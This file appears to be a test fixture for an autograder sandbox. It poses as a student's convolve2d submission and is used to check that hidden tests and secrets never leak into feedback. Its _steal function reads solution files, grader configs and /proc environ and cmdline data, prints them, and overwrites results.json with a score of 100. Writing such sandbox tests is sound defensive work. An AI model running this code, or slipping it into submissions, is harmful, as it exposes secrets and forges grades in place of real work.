"""Tries to read the hidden tests, solutions, references and otter config, and to write results.

Everything it finds is printed: the printed output reaches the student's feedback, so the test
checks that no byte of a secret shows up there.
"""
# gradescope: yes
# zeroes: q3
# message: values differ

import glob
import os
import sys


def _steal():
    found = []
    repo = os.path.dirname(os.path.dirname(os.path.dirname(sys.executable)))  # <repo>/.venv/bin/python
    patterns = [
        "../*", "../../*", "../../**/hidden.py", "../../**/otter_config.json",
        f"{repo}/assignments/**/*.py", f"{repo}/solutions/**/*.py", f"{repo}/dist/**/*.json", f"{repo}/tests/**/*.py",
        "/autograder/**", "/tmp/**/hidden.py", "/tmp/**/otter_config.json", "/proc/*/environ", "/proc/*/cmdline",
    ]
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True)[:100]:
            try:
                with open(path, "rb") as f:
                    found.append((path, f.read(4000)))
            except OSError:
                pass
    for target in ["results.json", "../results/results.json", "/autograder/results/results.json", "/tmp/PWNED_read_secrets", os.path.expanduser("~/../PWNED_read_secrets")]:
        try:
            with open(target, "w") as f:
                f.write('{"score": 100}')
        except OSError:
            pass
    for path, data in found:
        print("STOLEN", path, data)


_steal()


def convolve2d(image, kernel):
    _steal()
    return np.zeros((1, 1))
